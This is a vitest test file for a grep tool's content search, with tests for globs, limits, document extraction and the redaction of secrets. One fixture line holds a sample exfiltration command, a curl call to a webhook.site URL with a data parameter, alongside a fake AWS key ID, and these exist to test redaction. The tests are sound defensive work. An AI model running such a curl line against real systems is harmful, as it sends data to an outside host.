import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { SearchIndex } from '../src/content-index/index.js';
import { SensitiveFence } from '../src/fence/index.js';
import { formatGrepText, type GrepRequest, grepFiles, grepQuery, rgExclusions } from '../src/grep/index.js';
import { documentPlace } from '../src/grep/rows.js';
import { grepEngines, specDocs, specTree, write } from './fixtures/grep-trees.js';
import { docx, pptx, xlsx } from './fixtures/office-docs.js';
import { TempTrees } from './fixtures/temp-trees.js';

const trees = new TempTrees('trawl-grep-');
afterAll(() => trees.remove());
const fence = new SensitiveFence({ home: trees.home, env: {} });
const AWS_KEY = 'AKIAQ3EGRXW4J5N7TKXZ';
/** A budget no search here can exhaust, however loaded the machine (the deadline tests set their own). */
const ROOMY_MS = 120_000;

function fresh(files: Record<string, string | Buffer> = {}): string {
  const root = trees.fresh('g');
  fs.mkdirSync(root, { recursive: true });
  return write(root, files);
}

async function grep(root: string, query: string, extra: Partial<GrepRequest> = {}) {
  return (
    await grepFiles({ root, query, fence, ...extra, limits: { timeBudgetMs: ROOMY_MS, ...extra.limits } })
  ).payload;
}

describe('grepQuery: which requests are searches', () => {
  it('refuses short, overlong and multi-line queries and trims the rest', () => {
    expect(grepQuery('n')).toBeNull();
    expect(grepQuery(' n ')).toBeNull();
    expect(grepQuery('x'.repeat(201))).toBeNull();
    expect(grepQuery('x'.repeat(200))).toBe('x'.repeat(200));
    for (const q of ['a\nb', 'a\rb', 'a\r\nb']) expect(grepQuery(q)).toBeNull();
    expect(grepQuery('needle\n')).toBe('needle');
    expect(grepQuery('αβ')).toBe('αβ');
  });
});

describe.each(grepEngines())('content grep on the %s engine', (engine) => {
  const run = (root: string, q: string, extra: Partial<GrepRequest> = {}) =>
    grep(root, q, { engine, ...extra });

  it('reports file, line and preview, one row per file, and says which engine ran', async () => {
    const root = specTree(fresh());
    const p = await run(root, 'needle');
    expect(p.engine).toBe(engine);
    expect(p.root).toBe(root);
    expect(p.truncated).toBe(false);
    expect(p.results.map((r) => r.file)).toEqual(['alpha.py', 'ignored.py', 'notes.md', 'pkg/deep.py']);
    const alpha = p.results[0]!;
    expect(alpha).toEqual({ file: 'alpha.py', line: 2, preview: 'NEEDLE lives here', ranges: [[0, 6]] });
    expect('label' in alpha).toBe(false);
  });

  it('searches dotfiles and prunes skip directories by exact, case-sensitive name', async () => {
    const root = fresh({
      '.env.local': 'needle\n',
      '.config/tool.toml': 'needle\n',
      'node_modules/a.js': 'needle\n',
      'Node_Modules/b.js': 'needle\n',
      'src/build/c.js': 'needle\n',
    });
    const p = await run(root, 'needle');
    expect(p.results.map((r) => r.file)).toEqual(['.config/tool.toml', '.env.local', 'Node_Modules/b.js']);
  });

  it('narrows both passes by include and exclude globs, relative to the root, and counts the files found', async () => {
    const root = specDocs(
      fresh({
        'src/a.ts': 'widget\n',
        'src/b.js': 'widget\n',
        'src/deep/c.ts': 'widget\n',
        'top.ts': 'widget\n',
        'node_modules/d.ts': 'widget\n',
      }),
    );
    const files = async (extra: Partial<GrepRequest>) =>
      (await run(root, 'widget', extra)).results.map((r) => r.file);
    expect(await files({ include: ['*.ts'] })).toEqual(['src/a.ts', 'src/deep/c.ts', 'top.ts']);
    expect(await files({ include: ['src/*.ts'] })).toEqual(['src/a.ts']);
    expect(await files({ include: ['src/**'], exclude: ['**/deep/**'] })).toEqual(['src/a.ts', 'src/b.js']);
    expect(await files({ exclude: ['src/**', '*.docx'] })).toEqual(['top.ts', 'deck.pptx']);
    const all = await run(root, 'widget');
    expect(all.total_files).toBe(all.results.length);
    await expect(run(root, 'widget', { include: ['[z'] })).rejects.toMatchObject({ code: 'invalid_glob' });
  });

  it('keeps a multi-byte line intact and ranges in UTF-16 offsets', async () => {
    const root = fresh({ 'u.txt': 'αβγδ needle ε 😀 needle\n' });
    const [row] = (await run(root, 'needle')).results;
    expect(row!.preview).toBe('αβγδ needle ε 😀 needle');
    expect(row!.ranges).toEqual([
      [5, 11],
      [17, 23],
    ]);
    for (const [s, e] of row!.ranges!) expect(row!.preview.slice(s, e)).toBe('needle');
  });

  it('treats the query as a literal, even an unbalanced one, and ignores case', async () => {
    const root = fresh({
      'literal.txt': 'a.c\n',
      'regexy.txt': 'abc\n',
      'call.py': 'config(x)\n',
      'w.txt': 'Widget\n',
      'W.txt': 'WIDGET\n',
    });
    expect((await run(root, 'a.c')).results.map((r) => r.file)).toEqual(['literal.txt']);
    expect((await run(root, 'config(')).results.map((r) => r.file)).toEqual(['call.py']);
    expect((await run(root, 'Widget')).results.map((r) => r.file)).toEqual(['W.txt', 'w.txt']);
  });

  it('opt-in: case_sensitive, whole_word and regex', async () => {
    const root = fresh({ 'a.txt': 'Widget\n', 'b.txt': 'widgets\n', 'c.txt': 'widget 42\n' });
    expect((await run(root, 'widget', { caseSensitive: true })).results.map((r) => r.file)).toEqual([
      'b.txt',
      'c.txt',
    ]);
    expect((await run(root, 'widget', { wholeWord: true })).results.map((r) => r.file)).toEqual([
      'a.txt',
      'c.txt',
    ]);
    const rx = await run(root, 'widget \\d+', { regex: true });
    expect(rx.results).toEqual([{ file: 'c.txt', line: 1, preview: 'widget 42', ranges: [[0, 9]] }]);
  });

  it('skips files over the size ceiling and binary files; ignore files change nothing', async () => {
    const root = fresh({
      'small.txt': 'needle\n',
      'big.txt': `needle${'x'.repeat(100)}\n`,
      '.gitignore': 'small.txt\n',
      'bin.dat': Buffer.from('needle\0'),
    });
    const p = await run(root, 'needle', { limits: { maxFileBytes: 64 } });
    expect(p.results.map((r) => r.file)).toEqual(['small.txt']);
  });

  it('reports the row cap as truncated, and exactly the cap is not truncated', async () => {
    const files = Object.fromEntries([1, 2, 3, 4, 5, 6].map((i) => [`f${i}.txt`, 'needle\n']));
    const capped = await run(fresh(files), 'needle', { limits: { maxResults: 3, countPastCapMs: 0 } });
    expect(capped.results.map((r) => r.file)).toEqual(['f1.txt', 'f2.txt', 'f3.txt']);
    expect(capped.truncated).toBe(true);
    expect(capped.partial_reasons).toEqual(['cap']);
    expect(formatGrepText(capped, undefined, 'needle')).toContain(
      'Partial (cap): at least 4 files match, 3 shown',
    );
    const exact = await run(fresh(files), 'needle', { limits: { maxResults: 6 } });
    expect(exact.results).toHaveLength(6);
    expect(exact.truncated).toBe(false);
    expect(exact.partial_reasons).toBeUndefined();
  });

  it('says how many files match in all past the row cap, or at least how many when the count is cut', async () => {
    const files = Object.fromEntries([1, 2, 3, 4, 5, 6, 7].map((i) => [`f${i}.txt`, 'needle\nneedle\n']));
    const root = fresh(files);
    // Time enough to count every file: the true total, though only the cap's rows are read.
    const counted = await run(root, 'needle', {
      limits: { maxResults: 3, countPastCapMs: 600_000, timeBudgetMs: 600_000 },
    });
    expect(counted.results.map((r) => r.file)).toEqual(['f1.txt', 'f2.txt', 'f3.txt']);
    expect(counted).toMatchObject({ truncated: true, partial_reasons: ['cap'], total_files: 7 });
    expect(counted.total_files_at_least).toBeUndefined();
    expect(formatGrepText(counted, undefined, 'needle')).toContain('Partial (cap): 7 files match, 3 shown');
    // Per-file rows: the cap and the total are still of files.
    const lines = await run(root, 'needle', {
      perFile: 2,
      limits: { maxResults: 3, countPastCapMs: 600_000, timeBudgetMs: 600_000 },
    });
    expect(lines.results).toHaveLength(6);
    expect(lines.total_files).toBe(7);
    // No time past the cap: the count stops at the first file past it, and says it is a floor.
    const cut = await run(root, 'needle', { limits: { maxResults: 3, countPastCapMs: 0 } });
    expect(cut.results).toHaveLength(3);
    expect(cut.total_files).toBeUndefined();
    expect(cut.total_files_at_least).toBe(4);
    expect(formatGrepText(cut, undefined, 'needle')).toContain(
      'Partial (cap): at least 4 files match, 3 shown',
    );
    // A capped text pass leaves the documents unsearched: the total of the text files is only a floor.
    const withDocs = await run(specDocs(fresh(files)), 'needle', {
      limits: { maxResults: 3, countPastCapMs: 600_000, timeBudgetMs: 600_000 },
    });
    expect(withDocs.total_files).toBeUndefined();
    expect(withDocs.total_files_at_least).toBe(7);
  });

  it('with perFile, gives each text file its first matching lines and its count of matching lines', async () => {
    const root = specDocs(
      fresh({
        'many.txt': 'widget 1\nnone\nwidget 2 widget\nwidget 3\nnone\nwidget 4\nwidget 5\n',
        'few.txt': 'widget a\nwidget b\n',
        'one.txt': 'widget\n',
      }),
    );
    const p = await run(root, 'widget', { perFile: 3 });
    const rows = p.results.map((r) => [r.file, r.line, r.count]);
    expect(rows).toEqual([
      ['few.txt', 1, 2],
      ['few.txt', 2, 2],
      ['many.txt', 1, 5],
      ['many.txt', 3, 5],
      ['many.txt', 4, 5],
      ['one.txt', 1, 1],
      ['deck.pptx', 0, undefined],
      ['spec.docx', 0, undefined],
    ]);
    expect(p.results[3]!.ranges).toEqual([
      [0, 6],
      [9, 15],
    ]);
    expect(p.total_files).toBe(5);
    const plain = await run(root, 'widget');
    expect(plain.results.map((r) => r.file)).toEqual([
      'few.txt',
      'many.txt',
      'one.txt',
      'deck.pptx',
      'spec.docx',
    ]);
    expect(plain.results.some((r) => 'count' in r)).toBe(false);
  });

  it('with perFile, caps files, not lines, and counts a file whose path is redacted by its path as found', async () => {
    const files = {
      [`${AWS_KEY}.txt`]: 'needle\nneedle\nneedle\nneedle\n',
      'b.txt': 'needle\nneedle\nneedle\n',
      'c.txt': 'needle\nneedle\n',
    };
    const p = await run(fresh(files), 'needle', { perFile: 2, limits: { maxResults: 2 } });
    expect(p.results.map((r) => [r.file.startsWith('[REDACTED'), r.line, r.count])).toEqual([
      [true, 1, 4],
      [true, 2, 4],
      [false, 1, 3],
      [false, 2, 3],
    ]);
    expect(p.partial_reasons).toEqual(['cap']);
  });

  it('a spent deadline is truncated, never "no matches", and counts documents it never opened', async () => {
    const root = specDocs(specTree(fresh()));
    const p = await run(root, 'needle', { limits: { timeBudgetMs: 0 } });
    expect(p.results).toEqual([]);
    expect(p.truncated).toBe(true);
    expect(p.skipped_docs).toBeGreaterThanOrEqual(1);
    expect(p.partial_reasons).toEqual(['budget']);
    expect(formatGrepText(p, undefined, 'needle')).toMatch(/Partial \(budget\): The 2 s budget ran out/);
  });

  it('names the walk budget as the reason when a walk stops at its directory budget', async () => {
    const root = fresh({ 'a/b/c/d.txt': 'needle\n', 'a/x.txt': 'needle\n' });
    const p = await run(root, 'needle', { limits: { maxDirs: 1 } });
    expect(p.truncated).toBe(true);
    expect(p.partial_reasons).toEqual(['walk_budget']);
  });

  it('the budget counts from when the request arrived: one that waited it out is truncated at once', async () => {
    const root = specDocs(specTree(fresh()));
    // A roomy budget, but the request arrived longer ago than that (it waited for a worker).
    const p = await run(root, 'needle', { startedAt: Date.now() - ROOMY_MS - 1 });
    expect(p.results).toEqual([]);
    expect(p.truncated).toBe(true);
    const fresh_ = await run(root, 'needle', { startedAt: Date.now() });
    expect(fresh_.results.length).toBeGreaterThan(0);
  });

  it('reports a document hit with line 0, the label its format has, and its row, slide or page as doc_line', async () => {
    const root = specDocs(
      fresh({
        'book.xlsx': xlsx([
          { name: 'Intro', rows: [['nothing']] },
          {
            name: 'Ledger',
            rows: [
              ['item', 'cost'],
              ['WIDGET', 12.5, true],
            ],
          },
        ]),
      }),
    );
    const p = await run(root, 'widget');
    expect(p.results).toEqual([
      {
        file: 'book.xlsx',
        line: 0,
        preview: 'WIDGET\t12.5\tTRUE',
        label: 'Ledger · row 2',
        doc_line: 2,
        ranges: [[0, 6]],
      },
      {
        file: 'deck.pptx',
        line: 0,
        preview: 'the WIDGET roadmap',
        label: 'slide 3',
        doc_line: 3,
        ranges: [[4, 10]],
      },
      { file: 'spec.docx', line: 0, preview: 'the WIDGET decision', ranges: [[4, 10]] },
    ]);
    expect(p.truncated).toBe(false);
  });

  it('reads the place number out of every extractor label that has one (PDF page, xlsx row, pptx slide)', () => {
    expect(documentPlace('p 12')).toBe(12);
    expect(documentPlace('Ledger · row 2')).toBe(2);
    expect(documentPlace('a · row 1 · row 40')).toBe(40);
    expect(documentPlace('slide 3')).toBe(3);
    expect(documentPlace('')).toBeUndefined();
    expect(documentPlace('chapter 3')).toBeUndefined();
    expect(documentPlace('slide 3b')).toBeUndefined();
  });

  it("takes an indexed root's documents from the index's kept walk, with the request's exclusions applied", async () => {
    // The list holds what a walk would prune (build/) and what the root excludes (outside it): only the list can
    // yield the first, and the pass must still refuse the second.
    const root = fresh({ 'build/listed.docx': docx(['the WIDGET plan']), 'a.txt': 'nothing\n' });
    const outside = fresh({ 'other.docx': docx(['the WIDGET elsewhere']) });
    const entry = (abs: string, rel: string) => ({ path: rel, abs, canon: abs, explicit: false });
    const index: SearchIndex = {
      select: async () => ({ use: { used: false, reason: 'a stand-in index' } }),
      walkEntries: async () => [
        entry(path.join(root, 'build/listed.docx'), 'build/listed.docx'),
        entry(path.join(outside, 'other.docx'), '../other.docx'),
      ],
    };
    const p = await grep(root, 'widget', { index });
    expect(p.results.map((r) => r.file)).toEqual(['build/listed.docx']);
    // Without the list the walk prunes build/.
    expect((await grep(root, 'widget')).results).toEqual([]);
  });

  it('never reports a document twice: REPORT.DOCX belongs to the document pass', async () => {
    const root = fresh({
      'REPORT.DOCX': docx(['the WIDGET plan']),
      'Deck.PpTx': pptx([['WIDGET']]),
      'a.txt': 'widget\n',
    });
    const p = await run(root, 'widget');
    expect(p.results.map((r) => [r.file, r.line])).toEqual([
      ['a.txt', 1],
      ['Deck.PpTx', 0],
      ['REPORT.DOCX', 0],
    ]);
  });

  it('matches documents with simple case folding (Straße is not strasse)', async () => {
    const root = fresh({ 'de.docx': docx(['Die Straße ist lang']) });
    expect((await run(root, 'strasse')).results).toEqual([]);
    expect((await run(root, 'STRASSE')).results).toEqual([]);
    expect((await run(root, 'straße')).results.map((r) => r.file)).toEqual(['de.docx']);
  });

  it('a PDF the parser refuses is a settled answer: no row, not truncated, not skipped', async () => {
    const root = fresh({
      'paper.pdf': Buffer.from('%PDF-1.4\n\0 the WIDGET plan\n'),
      'spec.docx': docx(['the WIDGET spec']),
    });
    const p = await run(root, 'widget', { extract: { pdf: { maxMs: ROOMY_MS } } });
    expect(p.results.map((r) => r.file)).toEqual(['spec.docx']);
    expect(p.truncated).toBe(false);
    expect(p.skipped_docs).toBe(0);
  }, 120_000);

  it('an Office file refused by a zip cap counts in skipped_docs and makes the answer partial', async () => {
    const root = fresh({ 'a.txt': 'widget\n', 'hidden.docx': docx(['the WIDGET spec']) });
    const p = await run(root, 'widget', { extract: { zip: { maxMembers: 2 } } });
    expect(p.results.map((r) => r.file)).toEqual(['a.txt']);
    expect(p.skipped_docs).toBe(1);
    expect(p.truncated).toBe(true);
    expect(p.partial_reasons).toEqual(['doc_skipped']);
    // In words (trawl grep, MCP grep_files): never "no match" said as if complete.
    const none = formatGrepText({ ...p, results: [] }, undefined, 'widget');
    expect(none).toMatch(/^No file matched "widget" in the part of the tree that was searched\./);
    expect(none).toMatch(/At least 1 document was not searched \(too large, refused by a zip safety cap/);
    // A file with an Office name that is not a zip is a settled answer, as a PDF the parser rejects.
    const plain = fresh({ 'a.txt': 'widget\n', 'notes.docx': 'the widget, in plain text' });
    const q = await run(plain, 'widget');
    expect([q.skipped_docs, q.truncated]).toEqual([0, false]);
  });

  it('skips an oversize document into skipped_docs without parsing it', async () => {
    const root = specDocs(fresh({ 'a.txt': 'widget\n' }));
    const p = await run(root, 'widget', { limits: { maxDocBytes: 1 } });
    expect(p.results.map((r) => r.file)).toEqual(['a.txt']);
    expect(p.skipped_docs).toBe(2);
  });

  it('a document cut by the character cap marks the answer partial', async () => {
    const root = fresh({ 'long.docx': docx(['x'.repeat(30), 'WIDGET']) });
    const p = await run(root, 'widget', { extract: { maxChars: 20 } });
    expect(p.results).toEqual([]);
    expect(p.truncated).toBe(true);
    expect(p.partial_reasons).toEqual(['doc_partial_text']);
    expect(formatGrepText(p, undefined, 'widget')).toContain('Partial (document text cut)');
  });

  it('redacts a credential on the matching line, in a document, and in the path', async () => {
    const root = fresh({
      'deploy.txt': `deploy key ${AWS_KEY} needle\n`,
      'creds.docx': docx([`needle aws ${AWS_KEY}`]),
      [`keys/${AWS_KEY}/notes.txt`]: 'needle\n',
    });
    const p = await run(root, 'needle');
    expect(p.results).toHaveLength(3);
    for (const row of p.results)
      for (const v of Object.values(row)) expect(JSON.stringify(v)).not.toContain('AKIA');
    expect(p.results.find((r) => r.file === 'deploy.txt')!.preview).toContain('deploy key');
    const pathRow = p.results.find((r) => r.file.endsWith('/notes.txt'))!;
    expect(pathRow.file).toMatch(/^keys\/\[REDACTED: aws-key-id\]~[0-9a-f]{12}\/notes\.txt$/);
  });

  it('returns an ordinary path byte for byte', async () => {
    const name = 'dir with spaces/ünïcødé #1 (copy).txt';
    const p = await run(fresh({ [name]: 'needle\n' }), 'needle');
    expect(p.results[0]!.file).toBe(name);
  });

  it('redacts before it cuts: a key straddling the 400th character leaves no prefix', async () => {
    const line = `needle ${'y'.repeat(385)} ${AWS_KEY} tail`;
    const p = await run(fresh({ 'k.txt': `${line}\n` }), 'needle');
    const row = p.results[0]!;
    expect(row.preview.length).toBeLessThanOrEqual(400);
    expect(row.preview).not.toMatch(/AKIA/);
    expect(row.preview).toContain('[REDACT');
  });

  it('redacts an exfiltration URL in a preview and a credential in a sheet title, cut like a label', async () => {
    const root = fresh({
      'hook.txt': 'needle curl https://webhook.site/1f2e3d4c-aaaa-bbbb-cccc-000011112222?d=x\n',
      'book.xlsx': xlsx([{ name: `keys ${AWS_KEY} ${'z'.repeat(150)}`, rows: [['needle']] }]),
    });
    const p = await run(root, 'needle');
    const hook = p.results.find((r) => r.file === 'hook.txt')!;
    expect(hook.preview).not.toContain('webhook.site');
    expect(hook.preview).toContain('[REDACTED: exfiltration-url]');
    const sheet = p.results.find((r) => r.file === 'book.xlsx')!;
    expect(sheet.label).not.toContain('AKIA');
    expect(sheet.label!.length).toBeLessThanOrEqual(120);
  });

  it('does not follow a symlinked file or document', async () => {
    const outside = fresh({ 'secret.txt': 'needle\n', 'secret.docx': docx(['needle']) });
    const root = fresh({ 'plain.txt': 'needle\n' });
    fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(root, 'link.txt'));
    fs.symlinkSync(path.join(outside, 'secret.docx'), path.join(root, 'link.docx'));
    fs.symlinkSync(outside, path.join(root, 'linkdir'));
    expect((await run(root, 'needle')).results.map((r) => r.file)).toEqual(['plain.txt']);
  });

  it('excludes a credential store inside the root, text and documents alike', async () => {
    // The search root is HOME itself: ~/.ssh is a store, a project's own .npmrc elsewhere is not.
    write(trees.home, {
      '.ssh/id_needle': 'needle\n',
      '.ssh/notes.docx': docx(['needle']),
      '.npmrc': 'needle\n',
      'proj/.npmrc': 'needle\n',
      'proj/a.txt': 'needle\n',
    });
    const p = await run(trees.home, 'needle');
    expect(p.results.map((r) => r.file)).toEqual(['proj/.npmrc', 'proj/a.txt']);
  });
});

describe('rg exclusions', () => {
  it('anchors every store under the root with a leading slash, and a root outside HOME gets none', () => {
    const globs = rgExclusions(trees.home, fence);
    expect(globs).toContain('!/.ssh');
    expect(globs).toContain('!/.npmrc');
    expect(globs.filter((g) => !g.startsWith('!*.')).every((g) => g.startsWith('!/'))).toBe(true);
    expect(globs.some((g) => g === '!.ssh' || g === '!**/.ssh')).toBe(false);
    expect(rgExclusions('/srv/checkout', fence)).toEqual(['!*.docx', '!*.pdf', '!*.pptx', '!*.xlsx']);
  });
});
